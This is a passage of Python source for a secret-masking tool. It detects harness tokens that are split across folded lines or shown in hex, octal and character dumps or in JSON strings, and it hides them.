            out += [text[done:start], token]
            done = end
    out.append(text[done:])
    return "".join(out)


NARROW_WINDOW = 4096  # characters of narrow lines read at once (a token spans ~1,000)


def _windows(text: str, start: int, end: int) -> list[tuple[int, int]]:
    """Windows of a run of narrow lines, each starting at a line, every token in one."""
    windows, at = [], start
    while True:
        stop = text.find("\n", at + NARROW_WINDOW, end) + 1 if end - at > NARROW_WINDOW else 0
        windows.append((at, stop - 1 if stop else end))
        if not stop:
            return windows
        at = text.find("\n", at + NARROW_WINDOW // 2, end) + 1


class _Found(dict[int, tuple[int, str]]):
    """Whole tokens found in narrow lines: where each starts in the text, where it ends
    and the token; and where the next token character after each is (`after`): a token
    that starts there is no word run into the one before, whose end is known."""

    def __init__(self) -> None:
        super().__init__()
        self.after: list[int] = []  # (sorted)

    def add_after(self, at: int) -> None:
        i = bisect.bisect_left(self.after, at)
        if i == len(self.after) or self.after[i] != at:
            self.after.insert(i, at)

    def any_after(self, begin: int, stop: int) -> bool:
        i = bisect.bisect_left(self.after, begin)
        return i < len(self.after) and self.after[i] < stop


class _Edges:
    """What stands around a window's lines: `before`, what precedes its first line (""
    a line break of the text's own; a character of the same line, the first line being
    the end of a longer one, `tail`; None: a narrow line, read with the window before), and
    whether its last line ends the run of narrow lines (`last`)."""

    def __init__(self, before: str | None, tail: bool, last: bool) -> None:
        self.before, self.tail, self.last = before, tail, last


def _narrow_window(text: str, window: tuple[int, int, int, int], found: _Found) -> None:
    """_narrow_tokens over each reading of the lines of text[begin:stop] (`window`: those,
    where its run of narrow lines starts and ends), when, joined (in C), a reading may hold
    a whole token with a clear end (_narrow_gate), or a token found in the window before
    is followed by more in this one."""
    begin, stop, block_start, block_end = window
    chunk = text[begin:stop]
    if _NARROW_PREFIX.search(chunk) is None:
        return
    if begin != block_start:
        edges = _Edges(None, False, stop == block_end)
    elif begin == 0 or text[begin - 1] == "\n" or text[begin - 2 : begin] == "\\n":
        edges = _Edges("", False, stop == block_end)
    else:
        edges = _Edges(text[begin - 1], True, stop == block_end)
    if not found.any_after(begin, stop) and not _narrow_maybe(text, window, edges):
        return  # (in C: no token in any reading, 1 MB of `+h\n+r\n+o\n+_\n+A\n+b\n`)
    heads = [head for head, count in Counter(_HEADS.findall(chunk)).items() if count > 1]
    if not found.any_after(begin, stop) and not _narrow_gate(chunk, heads, edges):
        return
    lines, at = [], begin  # (each line and where it starts in the text)
    for brk in _NARROW_BREAK.finditer(chunk + "\n"):
        lines.append((text[at : begin + brk.start()], at))
        at = begin + brk.end()
    _narrow_tokens(lines, found, edges)
    for head in heads:
        read = [_without(line, head) for line in lines[edges.tail :]]
        _narrow_tokens(lines[: edges.tail] + read, found, edges)


def _narrow_maybe(text: str, window: tuple[int, int, int, int], edges: _Edges) -> bool:
    """Whether the window's lines, joined as one reading or another, hold _NARROW_MAYBE
    (in C): what stands before the window, and what follows it, read as words (a run of
    prefixes after what is read of it, so that no token ends at the end of what is read)."""
    begin, stop, _, block_end = window
    after = min(stop + 256, block_end)
    tail = "hro_" * 16 * (after < block_end)
    around = ("x\n" if edges.before is None else edges.before) + text[begin:after] + tail
    for brk in _JOINS:
        joined = brk.sub("", around)
        found = _NARROW_MAYBE.search(joined)
        if found is not None and found.start() < len(joined) - len(tail):
            return True
    return False


def _narrow_gate(chunk: str, heads: list[str], edges: _Edges) -> bool:
    """Whether a reading of `chunk`'s lines (as written, or without one of `heads`), its
    fold's breaks at some width taken out (_FOLD_BREAKS) and its other line breaks kept,
    holds a token's prefix and 43 characters with no word before it, or with none after
    it: what _narrow_tokens may find whole, read in C."""
    lead = "" if edges.tail else "\n"  # (the first line, a longer one's end, keeps its head)
    readings = [_NARROW_BREAK.sub("\n", chunk)]
    readings += [_break_and(head).sub("\n", lead + chunk)[len(lead) :] for head in heads]
    after = "" if edges.last else "\n" + "x" * 64  # (the next line: run into? a word, long)
    for reading in readings:
        first, _, rest = reading.partition("\n")
        if edges.tail:  # (a line break after the first line: fold's and the text's own)
            reads = [((edges.before or "") + first, rest), ("", rest)]
        elif edges.before == "":  # (the run's first line: what precedes fold's may be on it)
            reads = [("", reading), (first, rest)]
        else:  # (a narrow line before the window: its tokens are the window before's)
            reads = [("x", reading)]
        for width in _WIDTHS.intersection(map(len, reading.split("\n"))):
            for before, body in reads:
                joined = _FOLD_BREAKS[width].sub(r"\1", body + after)
                if _NARROW_CANDIDATE.search(before + joined):
                    return True
    return False


@functools.lru_cache(maxsize=256)  # (a text's heads: a few)
def _break_and(head: str) -> re.Pattern[str]:
    return re.compile(_NARROW_END + re.escape(head))


def _without(line: tuple[str, int], head: str) -> tuple[str, int]:
    """A line (its text, where it starts) without `head` before it, if it has it."""
    written, at = line
    return (written[len(head) :], at + len(head)) if written.startswith(head) else line


_JOINS = (_NARROW_BREAK_HEAD, _NARROW_BREAK)  # (a line may start with `-`: read both ways)
_TOKEN_RUN = re.compile(r"[A-Za-z0-9_-]{47,}+")  # (a run of token characters, a token long)
_PREFIX = re.compile("hr[nor]_")


def _narrow_tokens(lines: list[tuple[str, int]], found: _Found, edges: _Edges) -> None:
    """Each whole token the narrow `lines` (each line's text and where it starts) make,
    joined, with a clear end (see above), into `found`. A token that follows one found is
    no word run into it (`fold -w 1` of a file of tokens, one a line)."""
    joined = "".join(line for line, _ in lines)
    starts = list(itertools.accumulate((len(line) for line, _ in lines[:-1]), initial=0))
    for run in _TOKEN_RUN.finditer(joined):
        for prefix_at in _PREFIX.finditer(joined, run.start(), run.end()):
            start = prefix_at.start()
            end = start + 4 + _AFTER_PREFIX[prefix_at.group()]
            if end > run.end() or not _whole_token(prefix_at.group(), joined[start + 4 : end]):
                continue
            first = bisect.bisect_right(starts, start) - 1
            last = bisect.bisect_right(starts, end - 1) - 1
            at = lines[first][1] + start - starts[first]
            clear = _clear_ends(
                joined, (start, end, run.end()), (first, last), starts, lines, edges
            )
            if clear is None or not (clear[0] or clear[1] or found.any_after(at, at + 1)):
                continue
            if not clear[1] and _PREFIX.search(joined, start + 4, end):
                continue  # (its end not clear, and another token's prefix in it: `hro_Abhro_Ab`)
            found[at] = (lines[last][1] + end - starts[last], joined[start:end])
            if end < run.end():  # (where the next token character is: a token there follows)
                after = bisect.bisect_right(starts, end) - 1
                found.add_after(lines[after][1] + end - starts[after])


def _clear_ends(
    joined: str,
    span: tuple[int, int, int],
    rows: tuple[int, int],
    starts: list[int],
    lines: list[tuple[str, int]],
    edges: _Edges,
) -> tuple[bool, bool] | None:
    """Whether a whole token in `joined` (`span`: where it starts and ends, where the run
    of token characters holding it ends; `rows`: its first and last line) has a clear start
    and a clear end; None when its lines are not fold's (nor textwrap's), or token
    characters follow it on its last line (a longer word)."""
    start, end, run_end = span
    first, last = rows
    if last - first < 2:
        return None
    folds = _Folds(lines, max(len(line) for line, _ in lines[first + 1 : last]), edges.tail)
    # (a tail's break, or the first line of the run's: either. Text put before fold's
    # output on its first line only, `"h` of a JSON string, leaves that line no width)
    since = first + 1 if first == 0 and (edges.tail or edges.before == "") else first
    if not all(folds.at(i) for i in range(since, last)):
        return None  # (a line of it ends where fold or textwrap would not break it)
    if end < run_end:  # (token characters go on after it: across a line break?)
        if last + 1 == len(starts) or end != starts[last + 1]:
            return None  # (on its line: a longer word)
        end_clear = not folds.at(last)
    else:
        end_clear = end < len(joined) or edges.last or not folds.at(last)
    if start == 0:
        start_clear = edges.before is not None and edges.before not in _TOKEN_CHARS_SET
    else:
        start_clear = joined[start - 1] not in _TOKEN_CHARS_SET or (
            start == starts[first] and not folds.at(first - 1)
        )
    return start_clear, end_clear


class _Folds:
    """Which of `lines` end at fold's break, not at a line break of the text's own: fold
    breaks a line at its `width`; textwrap also after a hyphen, and before an em-dash
    (`--`) that starts the next line. A `tail` (the end of a longer line) ends at the
    text's own."""

    def __init__(self, lines: list[tuple[str, int]], width: int, tail: bool) -> None:
        self.lines, self.width, self.tail = lines, width, tail

    def at(self, i: int) -> bool:
        line = self.lines[i][0]
        if self.tail and i == 0:
            return False
        return (
            len(line) == self.width
            or line.endswith("-")
            or (i + 1 < len(self.lines) and self.lines[i + 1][0].startswith("--"))
        )


class _SplitTokenRule(_Rule):
    """Harness's tokens split by line breaks (Python's textwrap.fill and coreutils' fold
    wrap a long word in the middle; a backslash before a newline continues a line): the
    parts after the break are joined while they are shorter than a token, and when they
    make a whole token (_whole_token) they are written as that token, in one piece, before
    the other rules read the text: it is then masked as the token written whole is (the
    same marker), where a `TOKEN=` or `Bearer` rule masked only the first part. Each
    candidate is read at most MAX_LINE_BREAKS bounded parts ahead: linear time."""

    def apply(self, text: str) -> str:
        text = _narrow_joined(text)
        if _BROKEN_NEEDS.search(text) is not None:
            for mark, broken in _PREFIX_BROKEN.items():
                text = broken.sub(functools.partial(_prefix_joined, text, mark), text)
        out: list[str] = []
        done = 0  # text[:done] is in `out`
        match = _SPLIT_START.search(text)
        while match is not None:
            found = _split_token_end(text, match)
            if found is None:
                match = _SPLIT_START.search(text, match.start() + 1)
                continue
            end, rest = found
            out.append(text[done : match.start()])
            out.append(_unescaped(match.group(1)) + rest)  # joined: masked as one below
            done = end
            match = _SPLIT_START.search(text, end)
        if not out:
            return text
        out.append(text[done:])
        return "".join(out)


def _split_token_end(text: str, match: re.Match[str]) -> tuple[int, str] | None:
    """Where the split token starting at `match` (_SPLIT_START) ends and what follows its
    prefix, read; None when its parts make no whole token (read as plain lines, then as
    the lines of a diff: a `-` there is no part of the token)."""
    for part in _NEXT_PART.values():
        found = _parts_joined(text, match, part)
        if found is not None:
            return found
    return None


def _prefix_joined(text: str, mark: str, match: re.Match[str]) -> str:
    """A token whose prefix a line break split (_PREFIX_BROKEN): its prefix written whole
    when what follows makes a whole token (on its line, or joined over more breaks by the
    split rule next), else the text as it is."""
    written = match.group(0)
    if match.start("a") - match.start() == 4:
        return written  # (no break in the prefix: the split rule's own case)
    prefix = f"hr{match.group(1)}_"
    rest, end = _unescaped(match.group("a")), match.end("a")
    if _whole_token(prefix, rest) and not re.match(_TOKEN_CHAR, text[end : end + 12]):
        return prefix + match.group("a")
    found = _joined(text, prefix, rest, end, _NEXT_PART[mark], 1)
    return written if found is None else prefix + match.group("a")


def _parts_joined(text: str, match: re.Match[str], part: re.Pattern[str]) -> tuple[int, str] | None:
    prefix = _unescaped(match.group(1))
    return _joined(text, prefix, _unescaped(match.group("a")), match.end("a"), part, 0)


def _joined(
    text: str, prefix: str, rest: str, end: int, part: re.Pattern[str], breaks: int
) -> tuple[int, str] | None:
    need = _AFTER_PREFIX.get(prefix, 0)
    while len(rest) < need and breaks < MAX_LINE_BREAKS:
        found = part.match(text, end)
        if found is None:
            return None
        line = _unescaped(found.group(1))
        rest += line
        if len(rest) < need and len(line) < MIN_LINE and not line.endswith("-"):
            return None
        end, breaks = found.end(), breaks + 1
    if not breaks or not _whole_token(prefix, rest):
        return None
    return end, rest


# Hex dumps and per-character dumps of a file holding a token (`xxd`, `hexdump -C`,
# `od -c`, ...): a token's bytes are hex columns, 16 to a line (and, beside them, an ASCII
# column holding 16 of its characters a line), or one character per field. Each kind of
# dump line is one pattern; a run of consecutive lines of one kind is read as the bytes it
# shows, and a whole token in those bytes (_whole_token) has its secret part hidden in
# every column (each hex digit and character of it a `*`) and its marker (the plain
# token's) written after the line where that part starts. A line may carry a diff's `+` or
# `-` (the preview of a file written holding a dump).
_HEX = "[0-9a-fA-F]"
# A dump line's indent: spaces or tabs, a tab as `cat -A` shows it (`^I`).
_TAB = r"(?:[ \t]|\^I)"
_DUMP_LINES: dict[str, re.Pattern[str]] = {
    # xxd (any -g, -c, -u, -e): offset, colon, hex groups, then the ASCII column. With -e
    # the last line's last group, when it is short, is right-aligned in its width (`pad`).
    "xxd": re.compile(
        rf"^[-+]?+{_TAB}{{0,16}}+{_HEX}{{6,16}}+: (?={_HEX}| {{2,14}}+{_HEX}{{2}})"
        rf"(?P<hex>(?:{_HEX}{{2}}(?:{_HEX}{{2}}| (?={_HEX}{{2}}))*+)?+)"
        rf"(?:(?:(?<=: ) {{2,14}}+|(?<={_HEX}) {{3,15}}+)(?P<pad>(?:{_HEX}{{2}}){{1,7}}+)(?= ))?(?P<rest> [^\r\n]*+)\r?$",
        re.MULTILINE,
    ),
    # hexdump -C, od -t x1 (z: its ASCII column between > and <), od -An -t x1.
    "bytes": re.compile(
        rf"^[-+]?+(?:{_TAB}{{0,16}}+{_HEX}{{6,16}}+)?(?P<hex>(?: {{1,2}}{_HEX}{{2}})++)"
        r"(?: {2,}+(?:\|(?P<bar>[^\r\n]*)\||>(?P<gt>[^\r\n]*)<))?\$?+\r?$",
        re.MULTILINE,
    ),
    # xxd -p, a hex string (bytes.hex()).
    # (hexdump -e '16/1 "%02x"' pads its last line with spaces)
    "plain": re.compile(
        rf"^[-+]?+{_TAB}{{0,16}}+(?P<hex>(?:{_HEX}{{2}})++) *+\$?+\r?$", re.MULTILINE
    ),
    # xxd -i: a C array's initializer.
    "c": re.compile(
        rf"^[-+]?+{_TAB}{{0,16}}+(?P<hex>0[xX]{_HEX}{{2}}(?:, ?0[xX]{_HEX}{{2}})*+),?\$?+\r?$",
        re.MULTILINE,
    ),
    # od -x, hexdump without options: 16-bit words, little-endian.
    "words": re.compile(
        rf"^[-+]?+{_TAB}{{0,16}}+{_HEX}{{6,16}}+(?P<hex>(?: {_HEX}{{4}})++) *+\$?+\r?$",
        re.MULTILINE,
    ),
    # od -b, hexdump -b: one byte per field as 3 octal digits (od -An -b: no offset).
    "octal": re.compile(
        rf"^[-+]?+(?:{_TAB}{{0,16}}+{_HEX}{{6,16}}+|{_TAB}{{0,16}})(?P<oct>(?: [0-3][0-7]{{2}})++) *+\$?+\r?$",
        re.MULTILINE,
    ),
    # od -t d1, od -t u1: one byte per field in decimal (signed: -128 to 127).
    "decimal": re.compile(
        rf"^[-+]?+(?:{_TAB}{{0,16}}+{_HEX}{{6,16}}+)?(?P<dec>(?: {{1,4}}+-?+[0-9]{{1,3}}+)++) *+\$?+\r?$",
        re.MULTILINE,
    ),
    # od -t x4, od -t x8: words of 4 and 8 bytes, in the host's order (little-endian). An
    # offset is of another length than a word (od -An's first word is no offset).
    "words4": re.compile(
        rf"^[-+]?+(?:{_TAB}{{0,16}}+(?:{_HEX}{{6,7}}|{_HEX}{{9,16}})(?!{_HEX}))?"
        rf"(?P<hex>(?: {_HEX}{{8}})++) *+\$?+\r?$",
        re.MULTILINE,
    ),
    "words8": re.compile(
        rf"^[-+]?+(?:{_TAB}{{0,16}}+{_HEX}{{6,15}}(?!{_HEX}))?"
        rf"(?P<hex>(?: {_HEX}{{16}})++) *+\$?+\r?$",
        re.MULTILINE,
    ),
    # xxd -b: one byte per field as 8 binary digits (with -g, several bytes a group, no
    # space between them), then the ASCII column.
    "bits": re.compile(
        rf"^[-+]?+{_TAB}{{0,16}}+{_HEX}{{6,16}}+: (?P<bits>[01]{{8}}(?: ?+[01]{{8}})*+)(?P<rest>  [^\r\n]*+)\r?$",
        re.MULTILINE,
    ),
    # od -c, hexdump -c: one character (or its escape, or its octal code) per 4 columns;
    # od -a: a control character's name (`nul`, `sp`, `nl`). Without an offset (od -An -c)
    # the line may be indented: its fields are read from where they fit.
    "chars": re.compile(
        r"^[-+]?+(?:(?:[ \t]|\^I){0,16}+[0-9a-fA-F]{6,16}+|(?:[ \t]|\^I){1,16})?"
        r"(?P<chars>(?:   [^\s\\]|  \\[0abfnrtv\\]| [0-7]{3}|  [a-z]{2}| [a-z]{2}[a-z0-9]|    )++)"
        r"\$?+\r?$",
        re.MULTILINE,
    ),
}
_PAIR = re.compile(_HEX + "{2}")
_TOKEN_IN_BYTES = re.compile(r"hr[nor]_[A-Za-z0-9_-]++")
# What a dump of a token holds: its first bytes' hex (68 72: "hr"; in 16-bit words, 7268,
# or 6f72, 6e72, 7272 when it starts at an odd byte), or od -c's `h   r` (`h` at a line's
# end when the line breaks there).
_DUMP_NEEDS: tuple[str, ...] = ("68 72", "6872", "68  ", "68\n", "68\r", "68,", "h   r")
_DUMP_NEEDS += ("7268", "6f72", "6e72", "7272", "h\n", "h\r")
# UTF-16 text (`6800 7200`, `68 00 72`, `0068 0072`, od -c's `h  \0`), a dump's lines
# as JSON text (`68\n`: the line break escaped, `68\\n` twice), or through `cat -A`
# (`68$`). (xxd -e's little-endian groups hold 7268, 6f72, 6e72 or 7272 as od -x's do.)
_DUMP_NEEDS += ("6800", "68 00", "0068", "h  \\0", "68\\", "h\\n", "h\\r", "h\\\\")
_DUMP_NEEDS += ("68$", "h$")
# od -b (`150 162`: "hr" in octal), xxd -b (`01101000 `), od -a of UTF-16 text (`h nul`).
_DUMP_NEEDS += ("150 ", "150\n", "150\r", "150$", "150\\", "01101000 ", "h nul")
# xxd -b -g2 and wider groups: `h` then `r` (or UTF-16's NUL) in one group, no space.
_DUMP_NEEDS += ("0110100001110010", "0110100000000000", "0000000001101000")
# od -t d1 and -t u1 (`104 114`: "hr" in decimal; `104    0`: UTF-16), its line ending at h.
_DUMP_NEEDS += ("104 ", "104\n", "104\r", "104$", "104\\")
# Where a dump of a token may start, past the needs above: its `h` at a line's end only
# when the next line (a dump's: an offset, spaces or `0x` before it) starts with its `r`.
_LINE_BREAK_TO_R = (
    r"\$?+(?:\\++[rn]|\r?\n)++[-+]?+(?:(?:[ \t]|\^I)*+[0-9a-fA-F]{6,16}+:?+)?"
    r"(?:(?:[ \t]|\^I)++(?:0[xX])?+(?:72|r|\\0|162|000|nul|114|0 )|72)"
)
# The same as patterns that each start with a literal: the regex engine jumps from one
# place of it to the next (one pattern of them all tried every place of a text: 50 ms a
# megabyte of digits).
_DUMP_STARTS = [
    re.compile(pattern)
    for pattern in (
        r"68(?: 72|72|  |,|00| 00|" + _LINE_BREAK_TO_R + ")",
        r"h(?:   r|  \\++0| nul|" + _LINE_BREAK_TO_R + ")",
        r"150(?: 162| 000|" + _LINE_BREAK_TO_R + ")",
        r"104(?: {1,4}+(?:114|0 )|" + _LINE_BREAK_TO_R + ")",
        r"72(?:68|72)",
        r"6f72",
        r"6e72",
        r"00(?:68|0 150|000000 01101000)",
        r"01101000 ?+(?:01110010|00000000| )",
        r"0000000001101000",
    )
]


def _dump_bytes(kind: str, match: re.Match[str]) -> list[tuple[str, list[tuple[int, int]]]]:
    """The bytes one dump line shows, each as a character (latin-1) and the spans of the
    text that show it (its hex digits, its ASCII column's character)."""
    if kind == "chars":
        start, fields = match.start("chars"), match.group("chars")
        shown = []
        for at in range(0, len(fields), 4):
            field = fields[at : at + 4].strip()
            if len(field) == 1:
                shown.append((field, [(start + at + 3, start + at + 4)]))
            else:
                nul = field in ("\\0", "nul")
                shown.append((" " if not field else "\x00" if nul else "\x01", []))
        return shown
    if kind in _FIELDS:  # (od -b, xxd -b: fields of one width; xxd -b -g: groups of them)
        group, width, base = _FIELDS[kind]
        start = match.start(group)
        shown = [
            (chr(_FIELD_BYTES[kind][field.group()]), [(start + field.start(), start + field.end())])
            for field in _FIELD[kind].finditer(match.group(group))
        ]
        if kind == "bits":  # (its ASCII column: the line's last characters, one a byte)
            end = match.end("rest")
            if match.group("rest").endswith("$") and len(match.group("rest")) == len(shown) + 3:
                end -= 1
            if end - len(shown) > match.end("bits"):
                for i, (_, spans) in enumerate(shown):
                    spans.append((end - len(shown) + i, end - len(shown) + i + 1))
        return shown
    start, hexes = match.start("hex"), match.group("hex")
    if kind == "xxd-e" and match.group("pad"):
        hexes = match.string[start : match.end("pad")]
    if kind == "c":
        hexes = hexes.replace("0x", "  ").replace("0X", "  ")  # (the same length)
    pairs = [(int(p[0], 16), p.span()) for p in _PAIR.finditer(hexes)]
    if kind == "words":
        pairs = [pairs[i ^ 1] for i in range(len(pairs))]  # (each word's two bytes swapped)
    elif kind in ("xxd-e", "le"):  # (each group's bytes in reverse order)
        groups: list[tuple[int, tuple[int, int]]] = []
        at = 0
        for group in hexes.split():
            size = len(group) // 2
            groups.extend(reversed(pairs[at : at + size]))
            at += size
        pairs = groups
    shown = [(chr(code), [(start + a, start + b)]) for code, (a, b) in pairs]
    column = None
    if kind in ("xxd", "xxd-e"):
        end = match.end("rest")
        if match.group("rest").endswith("$") and len(match.group("rest")) == len(shown) + 3:
            end -= 1  # (`cat -A` marks a full line's end with `$`)
        after = match.end("pad") if kind == "xxd-e" and match.group("pad") else start + len(hexes)
        if end - len(shown) > after:
            column = end - len(shown)
    elif kind == "bytes":
        group = "bar" if match.group("bar") is not None else "gt"
        if match.group(group) is not None and len(match.group(group)) == len(shown):
            column = match.start(group)
    if column is not None:
        for i, (_, spans) in enumerate(shown):
            spans.append((column + i, column + i + 1))
    return shown


# A run of consecutive dump lines of one kind, in one match.
# od and hexdump (without -v) write `*` for lines equal to the one before: a run goes on
# past them (`od -w1`, `od -w2`: a token's doubled character, in about every other one).
_STAR_LINE = r"[-+]?+(?:[ \t]|\^I){0,16}+\*\$?+\r?\n"
_STAR_LINES = re.compile(f"^{_STAR_LINE}", re.MULTILINE)
_DUMP_RUN_LINES = {
    kind: "(?:(?:" + re.sub(r"\(\?P<\w+>", "(?:", line.pattern) + ")(?:\n|\\Z))++"
    for kind, line in _DUMP_LINES.items()
}
_DUMP_RUNS = {
    kind: re.compile(f"{lines}(?:{_STAR_LINE}{lines})*+", re.MULTILINE)
    for kind, lines in _DUMP_RUN_LINES.items()
}
_NOT_HEX = re.compile(r"0[xX]|[^0-9a-fA-F]")
_NOT_ONE_CHARACTER = re.compile(r"  \\.| [0-7]{3}|  [a-z]{2}| [a-z]{2}[a-z0-9]")
# od -b's and xxd -b's fields: the group holding them, their width and base.
_FIELDS = {"octal": ("oct", 3, 8), "bits": ("bits", 8, 2), "decimal": ("dec", 0, 10)}
_FIELD = {
    "octal": re.compile("[0-7]{3}"),
    "bits": re.compile("[01]{8}"),
    "decimal": re.compile("-?+[0-9]{1,3}+"),
}
_FIELD_BYTES = {
    "octal": {f"{code:03o}": code for code in range(256)},
    "bits": {f"{code:08b}": code for code in range(256)},
    # (every field the line's pattern reads: one out of a byte's range reads as 0x01)
    "decimal": {
        f"{sign}{number:0{digits}d}": (
            (-number if sign else number) % 256
            if -128 <= (-number if sign else number) <= 255
            else 1
        )
        for sign in ("", "-")
        for digits in (1, 2, 3)
        for number in range(10**digits)
    },
}


# xxd -e: groups of 2, 4 or 8 bytes (the last may be shorter), each little-endian.
_GROUP_REVERSED = [
    (
        re.compile(r"(?<![0-9a-fA-F])" + f"({_HEX}{{2}})" * n + r"(?![0-9a-fA-F])"),
        "".join(f"\\{i}" for i in range(n, 0, -1)),
    )
    for n in range(2, 9)
]
# What xxd -e's groups of a token's bytes hold wherever its `hr` falls: its `hr` or `ro`,
# `rr`, `rn` within one group, each reversed; of UTF-16 text, its `r` and the NUL beside
# it, reversed (`0072` little-endian, `7200` big-endian: `h` and `r` are 2 bytes apart).
_LITTLE_ENDIAN_HR = ("7268", "6f72", "6F72", "6e72", "6E72", "7272", "0072", "7200")
# The readings of each kind of dump line (`xxd -g4` and `xxd -e` write the same lines; od
# -t x4 and -t x8 write each word's bytes in reverse, as xxd -e does).
_READINGS = {"xxd": ("xxd", "xxd-e"), "words4": ("le",), "words8": ("le",)}


def _dump_shown(kind: str, reading: str, run: str) -> str:
    """What a run of dump lines shows, one character (latin-1) per byte, read in C (a
    template substitution, a slice) rather than line by line: most dumps hold no token."""
    line = _DUMP_LINES[kind]
    if kind == "chars":  # (a field that is no single character: \x01, not its last letter)
        fields = line.sub(r"\g<chars>", run).replace("\n", "")
        fields = fields.replace("  \\0", "   \x00").replace(" nul", "   \x00")  # (NUL: UTF-16)
        return _NOT_ONE_CHARACTER.sub("   \x01", fields)[3::4]
    if kind in _FIELDS:
        codes = _FIELD[kind].findall(line.sub(f"\\g<{_FIELDS[kind][0]}>", run))
        return bytes(map(_FIELD_BYTES[kind].__getitem__, codes)).decode("latin-1")
    hexes = line.sub(r"\g<hex> \g<pad>" if reading == "xxd-e" else r"\g<hex>", run)
    if reading in ("xxd-e", "le"):
        for pattern, template in _GROUP_REVERSED:
            hexes = pattern.sub(template, hexes)
    shown = bytes.fromhex(_NOT_HEX.sub("", hexes))
    if kind == "words":  # (each 16-bit word's two bytes swapped)
        swapped = bytearray(len(shown))
        swapped[0::2], swapped[1::2] = shown[1::2], shown[0::2]
        shown = bytes(swapped)
    return shown.decode("latin-1")


class _DumpRule(_Rule):
    """Tokens in dumps (_DUMP_LINES): their secret part hidden in every column. A run of
    dump lines is read line by line only when it shows a whole token."""

    def applies(self, found: _Literals) -> bool:
        return super().applies(found) and _may_show_dump(found.texts[0])

    def apply(self, text: str) -> str:
        hidden = _dump_hidden(text, 0)
        if not hidden:
            return text
        out, done = [], 0
        for start in sorted(hidden):
            end, replacement = hidden[start]
            if start < done:
                continue
            out.append(text[done:start])
            out.append(replacement)
            done = end
        out.append(text[done:])
        return "".join(out)


def _may_show_dump(text: str) -> bool:
    """Whether `text` may hold a dump of a token: a dump's start (_DUMP_STARTS) on a dump
    line, or in JSON text whose strings hold line breaks (read decoded by _dump_hidden)."""
    if all(start.search(text) is None for start in _DUMP_STARTS):
        return False
    return ("\\n" in text or "\\r" in text) or _starts_on_dump_line(text)


def _starts_on_dump_line(text: str) -> bool:
    """Whether a dump's start (_DUMP_STARTS) is on a line that is a dump's (_DUMP_LINES):
    numbered lines hold `0068` or `6872` (line 68, line 6872) but are no dump's, and the
    dumps' patterns are then not run over the whole text. A line is read at most once (a
    start on a line that is no dump's: the search goes on at the next line)."""
    read: set[int] = set()
    for start in _DUMP_STARTS:
        at = 0
        while (found := start.search(text, at)) is not None:
            line = text.rfind("\n", at, found.start()) + 1 or at
            if line not in read:
                read.add(line)
                if any(kind.match(text, line) for kind in _DUMP_LINES.values()):
                    return True
            at = text.find("\n", found.start()) + 1
            if not at:
                break
    return False


def _shows_token(shown: str) -> bool:
    return any(_whole_token(t.group()[:4], t.group()[4:]) for t in _TOKEN_IN_BYTES.finditer(shown))


# A JSON string holding an escaped line break (`"...\n..."`): a tool's output stored as
# JSON text (a hook's tool_response, a call's raw arguments), whose dump lines are read
# as the string stands for them (one that could hold a token's dump: 96 characters or
# more). One JSON character per match (a surrogate pair as one).
_JSON_LINES = re.compile(
    r'"(?=(?:[^"\\\n]|\\.){96})((?:[^"\\\n]++|\\[^rn\\\n]|\\\\(?![rn]))*+\\\\?[rn](?:[^"\\\n]++|\\.)*+)"'
)
_JSON_CHAR = re.compile(
    r"\\u[dD][89abAB][0-9a-fA-F]{2}\\u[dD][c-fC-F][0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\.|[^\\]",
    re.DOTALL,
)
MAX_JSON_DEPTH = 3  # levels of JSON text inside JSON text read for dumps


def _dump_hidden(text: str, depth: int) -> dict[int, tuple[int, str]]:
    """What hides the whole tokens the dumps in `text` show: start: (end, what replaces
    it). A run of dump lines is read line by line only when it shows a whole token; a JSON
    string holding line breaks is decoded (in C) and read as its text, and mapped back
    character by character only where that text shows one."""
    hidden: dict[int, tuple[int, str]] = {}
    for kind, runs in _DUMP_RUNS.items() if _starts_on_dump_line(text) else ():
        for run in runs.finditer(text):
            starred = "*" in run.group()
            for reading in _READINGS.get(kind, (kind,)):
                if reading in ("xxd-e", "le") and not any(
                    w in run.group() for w in _LITTLE_ENDIAN_HR
                ):
                    continue  # (7 substitutions over the run, for a reading that shows no token)
                if starred:
                    _hide_starred(text, kind, reading, run, hidden)
                    continue
                shown = _dump_shown(kind, reading, run.group())
                nul = False
                if not _shows_token(shown):
                    # A dump of UTF-16 text: each ASCII character beside a NUL byte.
                    nul = "\x00" in shown and _shows_token(shown.replace("\x00", ""))
                    if not nul:
                        continue
                lines = _DUMP_LINES[kind].finditer(text, run.start(), run.end())
                read = [
                    (char, spans, line.end())
                    for line in lines
                    for char, spans in _dump_bytes(reading, line)
                    if not (nul and char == "\x00")
                ]
                _hide_tokens(text, read, hidden)
    if depth < MAX_JSON_DEPTH and ("\\n" in text or "\\r" in text):
        for string in _JSON_LINES.finditer(text):
            decoded = _json_string(string.group(1))
            if decoded is None or not _may_show_dump(decoded):
                continue
            inner = _dump_hidden(decoded, depth + 1)
            if not inner:
                continue
            at = [m.start() for m in _JSON_CHAR.finditer(string.group(1))]
            if len(at) != len(decoded):
                continue  # (no JSON string after all)
            at.append(len(string.group(1)))
            offset = string.start(1)
            for start, (end, replacement) in inner.items():
                hidden[offset + at[start]] = (offset + at[end], replacement)
    return hidden


# A dump line's offset (od's octal by default, or -A x, -A d; hexdump's and xxd's hex).
_OFFSET = re.compile(r"[-+]?+(?:[ \t]|\^I)*+([0-9a-fA-F]{6,16}+)(?![0-9a-fA-F])")
_OFFSET_KINDS = ("xxd", "bytes", "words", "octal", "bits", "chars", "decimal", "words4", "words8")
# A line and the `*` line after it (which stands for one copy of it at least).
_STAR_COPIED = re.compile(f"^([^\\n]*+)\\n{_STAR_LINE}", re.MULTILINE)
MAX_STARRED = 16  # characters the `*` lines of a token may stand for beyond one copy each


def _near_whole(shown: str) -> bool:
    """Whether `shown` (a dump's bytes, each `*` as one copy) holds a token that `*` lines
    repeated more may make whole: at most MAX_STARRED characters short of it."""
    for token in _TOKEN_IN_BYTES.finditer(shown):
        need = _AFTER_PREFIX[token.group()[:4]]
        if need - MAX_STARRED <= token.end() - token.start() - 4 <= need:
            return True
    return False


MAX_REPEATS = 64  # bytes a `*` stands for, read (more: no token is there)
# Characters a `*` of no known count may add to make a token whole, beyond its one copy
# (`QQQQ` written `QQ*`: 2). More, and lines such as `hro_A*b*` (any length) were read as one.
MAX_MISSING = 4
_ReadByte = tuple[str, list[tuple[int, int]], int]


def _hide_starred(
    text: str, kind: str, reading: str, run: re.Match[str], hidden: dict[int, tuple[int, str]]
) -> None:
